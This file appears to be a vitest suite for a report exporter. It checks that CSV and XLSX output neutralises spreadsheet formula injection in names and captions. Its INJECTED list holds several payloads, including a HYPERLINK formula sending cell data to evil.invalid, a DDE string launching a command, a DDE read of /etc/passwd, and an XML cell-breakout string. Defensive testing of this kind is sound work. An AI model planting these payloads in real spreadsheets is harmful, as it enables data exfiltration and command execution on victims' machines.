import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import Papa from 'papaparse';
import { afterAll, describe, expect, test } from 'vitest';
import { MEASURES, type Report, type ReportRow } from '../../src/core/model/report';
import { readRules } from '../../src/files/own/rules';
import { guard } from '../../src/files/report-out/guard';
import { reportToCsv, reportToXlsx } from '../../src/files/report-out/write';
import { readTable } from '../../src/files/table/read-table';
import { unzip } from '../../src/files/table/zip';

/** What a creator can call themselves, a handle or a caption, and a spreadsheet would run or take for a number. */
const INJECTED = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1;2)',
  '=HYPERLINK("http://evil.invalid/?"&A1;"click")',
  "=cmd|'/C calc'!A0",
  '=DDE("soffice";"/etc/passwd";"A1")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=1+1",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1;2)',
  '=1+1</t></is></c><c r="B9"><f>1+1</f></c>',
  'a "quoted", =1+1',
  '576543210987654321',
  '0012',
  '1E5',
  '_x003D_1+1',
];

const rules = readRules(JSON.stringify({ version: 1, report_currency: 'USD', shops: { s: { currency: 'USD', time_zone: 'UTC' } } }));

function reportOf(texts: readonly string[]): Report {
  const rows = texts.map((text, i): ReportRow => {
    const measures = Object.fromEntries(MEASURES.map((measure, k) => [measure, i * 100 + k - 2])) as ReportRow['measures'];
    return { key: text, label: text, id: null, orders: i, units: i, measures, roi: i % 2 ? -i : null, roiSimple: null, roas: null };
  });
  return { query: { by: 'post', from: '2026-02-01', to: '2026-02-28' }, currency: 'USD', rules, rows, problems: [] };
}

const hasOffice = spawnSync('soffice', ['--version']).status === 0;
if (!hasOffice) console.warn('LibreOffice (soffice) is not installed: S16 is proved on the files alone, not by opening them.');
const folder = mkdtempSync(join(tmpdir(), 'formulas-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Cells of the first sheet as LibreOffice took them: type, formula where there is one, and text. */
function openedCells(
  name: string,
  bytes: Uint8Array | string,
  filter: readonly string[],
): { type: string; formula: string; text: string }[][] {
  writeFileSync(join(folder, name), bytes);
  const made = spawnSync('soffice', [
    ...['--headless', `-env:UserInstallation=file://${folder}/profile`, ...filter],
    ...['--convert-to', 'fods', '--outdir', folder, join(folder, name)],
  ]);
  expect(made.status, made.stderr.toString()).toBe(0);
  const xml = readFileSync(join(folder, name.replace(/\.\w+$/, '.fods')), 'utf8');
  const table = /<table:table .*?<\/table:table>/s.exec(xml)![0];
  return Array.from(table.matchAll(/<table:table-row .*?<\/table:table-row>/gs), ([row]) =>
    [...row.matchAll(/<table:table-cell\b([^>]*?)(?:\/>|>(.*?)<\/table:table-cell>)/gs)].flatMap(([, attributes, inside = '']) => {
      const one = {
        type: /office:value-type="(\w+)"/.exec(attributes!)?.[1] ?? '',
        formula: /table:formula="([^"]*)"/.exec(attributes!)?.[1] ?? '',
        text: paragraphs(inside),
      };
      // Equal cells side by side are written once; the empty ones at a row's end need not be counted out.
      const times = Number(/table:number-columns-repeated="(\d+)"/.exec(attributes!)?.[1] ?? 1);
      return Array.from({ length: Math.min(times, 40) }, () => one);
    }),
  );
}

const ENTITIES: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" };

/** Text of a cell: a paragraph a line, its blanks and tabs as elements. */
function paragraphs(xml: string): string {
  return Array.from(xml.matchAll(/<text:p\/>|<text:p>(.*?)<\/text:p>/gs), ([, inside = '']) =>
    inside
      .replaceAll('<text:tab/>', '\t')
      .replaceAll(/<text:s[^>]*\/>/g, ' ')
      .replaceAll(/<[^>]+>/g, '')
      .replaceAll(/&#x(\w+);/g, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)))
      .replaceAll(/&(\w+);/g, (whole, name: string) => ENTITIES[name] ?? whole),
  ).join('\n');
}

/** A cell's text where signs that end a line are one and the same, as spreadsheets have it. */
const lines = (text: string) => text.replaceAll(/\r\n?|_x000D_/g, '\n');

describe('what spreadsheets would run', () => {
  const report = reportOf(INJECTED);

  test('S16 CSV: names, handles and captions that begin as a formula are text, numbers stay numbers', () => {
    const cells = Papa.parse<string[]>(reportToCsv(report).trimEnd()).data.flat();
    expect(cells).toHaveLength((INJECTED.length + 1) * 33);
    const risky = cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell));
    expect(risky.filter((cell) => !/^-\d+\.\d+$/.test(cell))).toEqual([]);
    expect(risky).toContain('-0.02');
  });

  test('S16 XLSX: every name is a text cell, there is no formula, and nothing breaks out of its cell', async () => {
    const parts = await unzip(await reportToXlsx(report, { note: '=1+1', problems: INJECTED }), () => true);
    for (const [path, bytes] of parts) {
      const xml = new TextDecoder().decode(bytes);
      expect(xml, path).not.toMatch(/<f[\s>/]|ddeLink|externalLink|TargetMode/i);
    }
    const xml = new TextDecoder().decode(parts.get('xl/worksheets/sheet1.xml'));
    for (const [, column, attributes, inside] of xml.matchAll(/<c r="([A-Z]+)\d+"([^>]*)>(.*?)<\/c>/gs)) {
      if (['A', 'B', 'C', 'D'].includes(column!)) expect(`${attributes}${inside}`).toMatch(/ t="inlineStr"<is><t/);
    }
    const about = new TextDecoder().decode(parts.get('xl/worksheets/sheet2.xml'));
    expect(about.match(/ t="inlineStr"/g)).toHaveLength(about.match(/<c /g)!.length);
  });

  test('S16 any text goes into a spreadsheet and comes back as it was guarded', async () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 40 }),
      fc.string({
        unit: fc.constantFrom('=', '+', '-', '@', "'", '_', 'x', '0', '4', '1', '\t', '\r', '\n', '&', '<', ']', '>', '"', '\0', '￿'),
      }),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 5 }), async (texts) => {
        const table = await readTable(await reportToXlsx(reportOf(texts), {}), () => false);
        const labels: string[] = [];
        table.eachRow((cells) => void labels.push(cells[2] ?? ''));
        expect(labels.slice(1).map(lines)).toEqual(texts.map((one) => lines(guard(one))));
      }),
      { numRuns: 200, seed: 16 },
    );
  });

  test.skipIf(!hasOffice)(
    'S16 LibreOffice opens both: no formula, texts as they were written, ids with all digits, numbers as numbers',
    async () => {
      const csvFilter = ['--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false'];
      const opened = {
        xlsx: openedCells('report.xlsx', await reportToXlsx(report, {}), []),
        csv: openedCells('table.csv', reportToCsv(report), csvFilter),
      };
      for (const [kind, rows] of Object.entries(opened)) {
        expect(
          rows.flat().filter(({ formula }) => formula !== ''),
          kind,
        ).toEqual([]);
        const names = rows.slice(1, INJECTED.length + 1).map((cells) => cells[1]!);
        const isText = (text: string) => kind === 'xlsx' || !/^[\d.E]+$/.test(text);
        for (const [i, text] of INJECTED.entries()) {
          if (!isText(text)) continue;
          expect({ ...names[i], text: lines(names[i]!.text) }, `${kind}: ${text}`).toEqual({
            ...{ type: 'string', formula: '', text: lines(guard(text)) },
          });
        }
        expect(rows[1]![4], kind).toMatchObject({ type: 'float', text: '0' });
        expect(rows[1]![6], kind).toMatchObject({ type: 'float', text: '-0.02' });
      }
    },
    60_000,
  );
});
